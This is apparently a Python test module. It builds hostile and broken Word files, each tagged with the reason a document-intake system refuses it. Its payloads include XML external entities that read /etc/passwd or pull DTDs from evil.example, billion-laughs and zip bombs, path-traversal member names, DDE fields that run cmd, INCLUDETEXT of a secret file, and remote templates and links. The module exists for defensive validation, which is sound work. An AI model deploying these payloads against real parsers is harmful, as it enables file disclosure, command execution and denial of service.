"""Hostile and broken files, each made for one way in which a Word file can do harm or fail, and why each is refused."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping

from tests.governance.documents import samples
from tests.governance.documents.samples import DOCUMENT, changed, members_of, zipped

Make = Callable[[], bytes]
RELATIONS, TYPES, ROOT = "word/_rels/document.xml.rels", "[Content_Types].xml", "_rels/.rels"
CORE = "docProps/core.xml"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
DTDS = {
    "outside entity": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "outside parameter entity": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]>',
    "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "haha">{LAUGHS}]>',
    "quadratic blow-up": f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>',
    "outside document type": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
}
CONTAINER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def good() -> bytes:
    """The file that each of these is made from; it is taken in."""
    return samples.draft()


def parts() -> Mapping[str, bytes]:
    return members_of(good())


def with_member(name: str, content: bytes | str) -> bytes:
    return zipped({**parts(), name: content})


def without(name: str) -> bytes:
    return zipped({key: value for key, value in parts().items() if key != name})


def in_body(xml: str) -> bytes:
    return changed(good(), DOCUMENT, "<w:body>", f"<w:body>{xml}")


def coded(code: str) -> bytes:
    """A field with this code; where a | stands, the code is split into two runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in code.split("|"))
    return in_body(FIELD.format(runs))


def related(kind: str, target: str, *, outside: bool = True, base: str = KIND) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    relation = f'<Relationship Id="rId999" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'
    return changed(good(), RELATIONS, "</Relationships>", relation)


def typed(content_type: str, part: str = "/word/extra.dat") -> bytes:
    override = f'<Override PartName="{part}" ContentType="{content_type}"/></Types>'
    return changed(with_member(part[1:], b"x"), TYPES, "</Types>", override)


def with_dtd(name: str, dtd: str) -> bytes:
    head, sign, rest = parts()[name].decode().partition("?>")
    assert sign, name
    return with_member(name, f"{head}?>{dtd}{rest}")


def recoded(encoding: str, declared: str | None = None, mark: bytes = b"") -> bytes:
    text = parts()[DOCUMENT].decode().partition("?>")[2]
    head = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""
    return with_member(DOCUMENT, mark + (head + text).encode(encoding))


def packed(method: int) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as archive:
        for name, content in parts().items():
            archive.writestr(name, content)
    return written.getvalue()


def twice(name: str, again: str) -> bytes:
    written = io.BytesIO(good())
    with zipfile.ZipFile(written, "a") as archive, warnings.catch_warnings(action="ignore"):
        archive.writestr(archive.getinfo(name), parts()[name])
        archive.filelist[-1].filename = again
    return written.getvalue()


def lying(offset: int, value: int, name: str = DOCUMENT) -> bytes:
    """The directory's entry of a member says something else: `offset` counts within the entry."""
    data = bytearray(good())
    at = data.index(name.encode(), data.index(b"PK\1\2")) - 46
    assert data[at : at + 4] == b"PK\1\2"
    data[at + offset : at + offset + 4] = struct.pack("<I", value)
    return bytes(data)


def overlapping() -> bytes:
    """Two hundred members that are all the same packed bytes: a few kilobytes become hundreds of megabytes."""
    content = b"<a>" + b" " * 900_000 + b"</a>"
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    stored = press.compress(content) + press.flush()
    facts = (zlib.crc32(content), len(stored), len(content), 5)
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 33, *facts, 0) + b"a.xml"
    entries = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 33, *facts, 0, 0, 0, 0, 0, 0) + f"{n:05}".encode()
        for n in range(200)
    )
    start = len(local) + len(stored)
    return local + stored + entries + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 200, 200, len(entries), start, 0)


def endless_directory() -> bytes:
    """Twenty megabytes of directory: half a million members of nothing."""
    head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0)
    entries = b"".join(entry + f"{n:06}".encode() for n in range(400_000))
    return head + entries + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(entries), len(head), 0)


def nested(levels: int) -> bytes:
    inner = b"0" * 1_000_000
    for level in range(levels):
        inner = zipped({f"{level}-{copy}.zip": inner for copy in range(10)})
    return with_member("word/embeddings/bomb.docx", inner)


def of_noise(opening: str, piece: Callable[[int], str], count: int, closing: str) -> bytes:
    """Something long that hardly packs, so that it is no bomb by its ratio."""
    return in_body(opening + "".join(piece(number) for number in range(count)) + closing)


def noise(number: int) -> str:
    return f"{zlib.crc32(number.to_bytes(4, 'big')):08x}"


SEVEN_PARTS = [f"word/part{number}.xml" for number in range(7)]
SIX_MEGABYTES = "<a>" + "".join(f"{noise(number)[:2]}xxxxxxxxxxxxxxx" for number in range(350_000)) + "</a>"
NOT_WORD: dict[str, Make] = {
    "an empty file": bytes,
    "a text": lambda: b"Keputusan Bupati",
    "a PDF": lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n%%EOF",
    "an RTF": lambda: b"{\\rtf1\\ansi Keputusan \\object\\objdata 0105}",
    "an HTML page": lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "an old .doc": lambda: CONTAINER + "WordDocument".encode("utf-16-le"),
    "NULs": lambda: b"\0" * 100_000,
    "a zip's signature alone": lambda: b"PK\x03\x04",
    "an empty zip": lambda: b"PK\x05\x06" + b"\0" * 18,
    "a zip of a text": lambda: zipped({"a.txt": "x"}),
    "an .odt": lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}),
    "an .xlsx": lambda: zipped({TYPES: "<Types/>", ROOT: "<Relationships/>", "xl/workbook.xml": "<workbook/>"}),
    "a .pptx": lambda: zipped({TYPES: "<Types/>", ROOT: "<Relationships/>", "ppt/presentation.xml": "<p/>"}),
    "a page before the zip": lambda: b"<html><script>alert(1)</script></html>" + good(),
    "without its document": lambda: without(DOCUMENT),
    "without its content types": lambda: without(TYPES),
    "a Word template": lambda: changed(good(), TYPES, "document.main", "template.main"),
    "a glossary": lambda: changed(good(), TYPES, "document.main", "document.glossary"),
    "two types for the document": lambda: changed(
        good(), TYPES, "</Types>", f'<Override PartName="/{DOCUMENT}" ContentType="text/html"/></Types>'
    ),
    **{
        f"cut off after {share} of a hundred": lambda share=share: good()[: len(good()) * share // 100]
        for share in (1, 10, 30, 50, 70, 90, 99)
    },
    "its last byte gone": lambda: good()[:-1],
}  # fmt: skip
LOCKED: dict[str, Make] = {
    "a file locked with a password": lambda: CONTAINER + "EncryptedPackage".encode("utf-16-le"),
    "a locked member": lambda: lying(8, 0x00080001),
}
BOMBS: dict[str, Make] = {
    "a flat bomb": lambda: with_member("word/big.xml", b"<a>" + b" " * 30_000_000 + b"</a>"),
    "a bomb of NULs": lambda: with_member("word/media/image1.png", b"\0" * 60_000_000),
    "two hundred megabytes announced": lambda: lying(24, 200_000_000),
    "overlapping members": overlapping,
    "too many members": lambda: zipped({f"m{number}.txt": "" for number in range(1001)}),
    "an endless directory": endless_directory,
    "hundreds of thousands of tiny runs": lambda: of_noise(
        "<w:p>", lambda n: f"<w:r><w:t>{noise(n)}</w:t></w:r>", 130_000, "</w:p>"
    ),
    "a million empty paragraphs": lambda: of_noise("", lambda n: f'<w:p w:rsidR="{noise(n)}"/>', 1_000_001, ""),
    "a million attributes": lambda: of_noise("<w:p", lambda n: f' a{noise(n)}{n}=""', 1_000_000, "/>"),
    "an attribute of three megabytes": lambda: of_noise('<w:p w:rsidR="', noise, 400_000, '"/>'),
    "a text of three megabytes": lambda: of_noise("<w:p><w:r><w:t>", noise, 400_000, "</w:t></w:r></w:p>"),
    "a comment of three megabytes": lambda: of_noise("<!--", noise, 400_000, "-->"),
    "an instruction of three megabytes": lambda: of_noise("<?x ", noise, 400_000, "?>"),
    "parts of forty megabytes together": lambda: zipped({**parts(), **dict.fromkeys(SEVEN_PARTS, SIX_MEGABYTES)}),
}  # fmt: skip
BROKEN: dict[str, Make] = {
    "without its relations": lambda: without(ROOT),
    "a member out of the package": lambda: with_member("../../etc/passwd", b"x"),
    "a member at the root": lambda: with_member("/etc/passwd", b"x"),
    "a member on a drive": lambda: with_member("C:/evil.xml", b"<a/>"),
    "a member by backslashes": lambda: with_member("..\\evil.xml", b"<a/>"),
    "the document twice": lambda: twice(DOCUMENT, DOCUMENT),
    "the document twice, in capitals": lambda: twice(DOCUMENT, "word/DOCUMENT.xml"),
    "packed by bzip2": lambda: packed(zipfile.ZIP_BZIP2),
    "packed by lzma": lambda: packed(zipfile.ZIP_LZMA),
    "a wrong checksum": lambda: lying(16, 0),
    "a size too small": lambda: lying(24, 10),
    "a size too large": lambda: lying(24, 900_000),
    "a place outside the file": lambda: lying(42, 90_000_000),
    "a place within another member": lambda: lying(42, 77),
    "tags that do not close": lambda: in_body("<w:p><w:r>"),
    "tags that cross": lambda: in_body("<w:p><w:r></w:p></w:r>"),
    "two roots": lambda: with_member("word/theme.xml", "<a/><b/>"),
    "an unknown prefix": lambda: in_body("<evil:p/>"),
    "the same attribute twice": lambda: in_body('<w:p w:rsidR="1" w:rsidR="2"/>'),
    "an unknown entity": lambda: in_body("<w:p>&evil;</w:p>"),
    "a control character": lambda: in_body("<w:p><w:r><w:t>\x0b</w:t></w:r></w:p>"),
    "a surrogate": lambda: in_body("<w:p><w:r><w:t>&#xD800;</w:t></w:r></w:p>"),
    "bytes that are no UTF-8": lambda: with_member("word/theme.xml", b"<a>\xff\xfe\xfd</a>"),
    "an empty part": lambda: with_member("word/theme.xml", b""),
    "EBCDIC": lambda: recoded("cp500"),
    "a hundred thousand levels": lambda: in_body("<w:p>" * 100_000 + "</w:p>" * 100_000),
    "three hundred levels": lambda: in_body("<w:sdt>" * 300 + "</w:sdt>" * 300),
    "another document opened by Word": lambda: changed(good(), ROOT, "word/document.xml", "word/other.xml"),
    "two documents to open": lambda: changed(
        good(), ROOT, "</Relationships>",
        f'<Relationship Id="rId99" Type="{KIND}/officeDocument" Target="word/b.xml"/></Relationships>',
    ),
}  # fmt: skip
ENCODED: dict[str, Make] = {
    "UTF-16 with its mark": lambda: recoded("utf-16"),
    "UTF-16 without a mark": lambda: recoded("utf-16-le"),
    "UTF-32": lambda: recoded("utf-32"),
    "UTF-7, declared": lambda: recoded("utf-7", "UTF-7"),
    "Latin-1, declared": lambda: recoded("latin-1", "ISO-8859-1"),
    "NULs in a part": lambda: with_member("word/theme.xml", b"<a>\0\0</a>"),
}
DEFINING: dict[str, Make] = {
    **{what: lambda dtd=dtd: with_dtd(DOCUMENT, dtd) for what, dtd in DTDS.items()},
    "an entity used": lambda: changed(
        with_dtd(DOCUMENT, DTDS["outside entity"]), DOCUMENT, "<w:body>", "<w:body><w:p>&a;</w:p>"
    ),
    "a picture that defines entities": lambda: with_member(
        "word/media/image1.svg", f'<?xml version="1.0"?>{DTDS["outside entity"]}<svg>&a;</svg>'
    ),
}
MACROS: dict[str, Make] = {
    "a .docm": lambda: changed(
        with_member("word/vbaProject.bin", b"x"), TYPES,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        "application/vnd.ms-word.document.macroEnabled.main",
    ),
    "macros in a .docx": lambda: with_member("word/vbaProject.bin", b"x"),
    "macros under another name": lambda: related("vbaProject", "media/image9.png", outside=False, base=MICROSOFT),
    "macros by their type": lambda: typed("application/vnd.ms-office.vbaProject"),
    "ActiveX": lambda: with_member("word/activeX/activeX1.xml", "<a/>"),
    "ActiveX by its type": lambda: typed("application/vnd.ms-office.activeX+xml"),
    "an add-in": lambda: with_member("word/webextensions/webextension1.xml", "<a/>"),
}  # fmt: skip
EMBEDDED: dict[str, Make] = {
    "a workbook inside": lambda: with_member("word/embeddings/a.xlsx", b"x"),
    "a bomb in a bomb": lambda: nested(3),
    "a program inside": lambda: with_member("word/media/setup.exe", b"MZ"),
    "a page inside": lambda: with_member("word/afchunk.html", b"<p>x</p>"),
    "a page inside, by altChunk": lambda: in_body('<w:altChunk r:id="rId1"/>'),
    "a page inside, by its relation": lambda: related("aFChunk", "media/a.dat", outside=False),
    "an object named as a picture": lambda: related("oleObject", "media/image1.png", outside=False),
    "an object": lambda: in_body("<w:p><w:r><w:object/></w:r></w:p>"),
    "an OLE object in VML": lambda: in_body(
        '<w:p><w:r><w:pict><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:pict></w:r></w:p>'
    ),
    "a control": lambda: in_body("<w:p><w:r><w:control/></w:r></w:p>"),
    "a sub-document": lambda: in_body('<w:subDoc r:id="rId1"/>'),
    "a film from the web": lambda: in_body(
        '<w:p><v:webVideoPr xmlns:v="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing"/></w:p>'
    ),
    "a picture with a script": lambda: with_member(
        "word/media/image1.svg", "<svg><script>alert(1)</script></svg>"
    ),
    "comments with a script": lambda: with_member("word/comments.xml", "<x><script>alert(1)</script></x>"),
}  # fmt: skip
OUTSIDE: dict[str, Make] = {
    "a template from outside": lambda: related("attachedTemplate", "http://evil.example/a.dotm"),
    "a picture from outside": lambda: related("image", "http://evil.example/a.png"),
    "an object from outside": lambda: related("oleObject", "file://evil.example/a.xlsx"),
    "a link": lambda: related("hyperlink", "http://evil.example/"),
    "a link to a share": lambda: related("hyperlink", "file:///\\\\evil.example\\share"),
    "a link to an address": lambda: related("hyperlink", "mailto:a@evil.example"),
    "a frame": lambda: related("frame", "http://evil.example/"),
    "a link as a field": lambda: coded(' HYPER|LINK "http://evil.example/"'),
    "a link as a simple field": lambda: in_body(
        '<w:p><w:fldSimple w:instr=\' HYPERLINK "http://evil.example"\'/></w:p>'
    ),
    "a picture's address in VML": lambda: in_body(
        '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/"/></w:pict></w:r></w:p>'
    ),
    "a drawing that loads another": lambda: with_member(
        "word/media/a.svg", '<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="http://evil.example/"/></svg>'
    ),
}  # fmt: skip
FETCHING: dict[str, Make] = {
    "DDE": lambda: coded(' DDE cmd "/c calc"'),
    "DDE in pieces": lambda: coded("D|DEAU|TO cmd"),
    "DDE in small letters": lambda: coded("ddeauto cmd"),
    "a text from outside": lambda: coded(" INCLUDETEXT c:/secret.txt"),
    "a picture from outside by a field": lambda: coded(' INCLUDEPICTURE "http://evil.example/a.png"'),
    "a simple field that fetches": lambda: in_body('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet a.xlsx "/></w:p>'),
    "a button for a macro": lambda: coded(" MACROBUTTON Evil Klik di sini"),
    "a field in a header": lambda: changed(
        good(), "word/header1.xml", "</w:hdr>", '<w:p><w:fldSimple w:instr="DATABASE x"/></w:p></w:hdr>'
    ),
    "a mail merge": lambda: with_member(
        "word/settings2.xml",
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge/></w:settings>',
    ),
}  # fmt: skip
PENDING: dict[str, Make] = {
    "an insertion": lambda: in_body("<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>"),
    "a deletion": lambda: in_body("<w:p><w:del><w:r><w:delText>x</w:delText></w:r></w:del></w:p>"),
    "a move": lambda: in_body("<w:p><w:moveTo><w:r><w:t>x</w:t></w:r></w:moveTo></w:p>"),
    "a deleted paragraph mark": lambda: in_body("<w:p><w:pPr><w:rPr><w:del/></w:rPr></w:pPr></w:p>"),
    "a change of form": lambda: in_body("<w:p><w:r><w:rPr><w:rPrChange/></w:rPr></w:r></w:p>"),
}
UNSEALABLE: dict[str, Make] = {
    "the date's place gone": lambda: changed(good(), DOCUMENT, '<w:rStyle w:val="FTanggal"/>', ""),
    "the number's place gone": lambda: changed(good(), DOCUMENT, '<w:rStyle w:val="FNomor"/>', ""),
    "its styles gone": lambda: without("word/styles.xml"),
}

GROUPS: dict[str, dict[str, Make]] = {
    "file.not_docx": NOT_WORD, "file.encrypted": LOCKED, "file.bomb": BOMBS, "file.broken": BROKEN,
    "file.encoding": ENCODED, "file.dtd": DEFINING, "file.macros": MACROS, "file.embedded": EMBEDDED,
    "file.external": OUTSIDE, "file.fetching": FETCHING, "file.tracked_changes": PENDING,
    "seal.place_missing": UNSEALABLE,
}  # fmt: skip
ALL: dict[str, tuple[str, Make]] = {name: (key, make) for key, group in GROUPS.items() for name, make in group.items()}
READ_ONLY = frozenset({"file.tracked_changes", "seal.place_missing"})  # no harm in what is only read, and not kept


def defining_in_each_part() -> Iterator[tuple[str, bytes]]:
    """An entity from outside in every part that is XML."""
    for name, content in parts().items():
        if content.startswith(b"<?xml"):
            yield name, with_dtd(name, DTDS["outside entity"])


def styled(style: str, text: str) -> str:
    return f'<w:p><w:pPr><w:pStyle w:val="{style}"/></w:pPr><w:r><w:t>{text}</w:t></w:r></w:p>'


def in_style(style: str, count: int, opening: str = "") -> bytes:
    """That many paragraphs of a part that is read back."""
    return of_noise(opening, lambda n: styled(style, f"bahwa {noise(n)};"), count, "")


def large_but_lawful() -> dict[str, bytes]:
    """The largest that passes: just below each of the bounds."""
    return {
        "many paragraphs": of_noise("", lambda n: f"<w:p><w:r><w:t>{noise(n)}</w:t></w:r></w:p>", 60_000, ""),
        "many considerations": in_style("FMenimbang", 50_000),
        "many items of one dictum": in_style("FDiktumRinci", 50_000, styled("FDiktum", "KESATU : Tim:")),
        "many empty runs": of_noise("<w:p>", lambda n: f'<w:r w:rsidR="{noise(n)}"><w:t/></w:r>', 150_000, "</w:p>"),
        "many attributes": of_noise("<w:p", lambda n: f' a{n}=""', 80_000, "/>"),
    }  # fmt: skip
